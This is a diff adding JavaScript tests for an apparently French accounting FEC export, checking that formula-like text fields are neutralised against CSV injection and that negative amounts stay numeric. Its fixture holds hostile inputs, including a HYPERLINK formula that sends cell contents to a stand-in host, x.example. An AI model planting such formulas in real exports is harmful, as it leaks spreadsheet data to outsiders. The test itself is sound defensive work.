@@ -119,3 +119,45 @@ describe('FEC export (LPF art. A47 A-1, billing.md § FEC)', () => {
     });
   }
 });
+
+describe('FEC export opened in a spreadsheet (OWASP CSV injection)', () => {
+  const hostile = expenseEntry({
+    id: 'x2',
+    date: '2026-04-02',
+    label: '=HYPERLINK("http://x.example/?d="&A1;"facture")',
+    pieceRef: '-1+cmd',
+    amountCents: 1_200,
+    category: 'office_documentation_phone',
+    paymentMethod: 'transfer',
+    supplier: '@SUM(A1:A9)',
+  });
+  // A correcting entry written with negative amounts, as some imported books hold.
+  const negative = {
+    ...receiptFromPayment(cheque, { id: 'e2', label: 'Extourne', pieceRef: '2026-000011' }),
+    lines: [
+      { account: '512', accountLabel: 'Banque', debitCents: -2_500, creditCents: 0 },
+      { account: '706', accountLabel: 'Honoraires', debitCents: 0, creditCents: -2_500 },
+    ],
+  };
+  const { content, records } = writeFec([hostile, negative], options);
+
+  it('puts an apostrophe before every text field that begins like a formula', () => {
+    expect(records.find((r) => r.JournalCode === 'DE')).toMatchObject({
+      EcritureLib: `'=HYPERLINK("http://x.example/?d="&A1;"facture")`,
+      PieceRef: "'-1+cmd",
+      IdClient: "'@SUM(A1:A9)",
+    });
+    expect(content).not.toMatch(/\t[=+@-][^\d]/);
+  });
+  it('keeps amounts numbers, negative ones included', () => {
+    expect(records.filter((r) => r.JournalCode === 'RE').map((r) => [r.Debit, r.Credit])).toEqual([
+      ['-25,00', '0,00'],
+      ['0,00', '-25,00'],
+    ]);
+  });
+  it('stays a valid FEC', () => {
+    const check = parseFec(content);
+    expect(check.problems).toEqual([]);
+    expect(check.records).toEqual(records);
+  });
+});
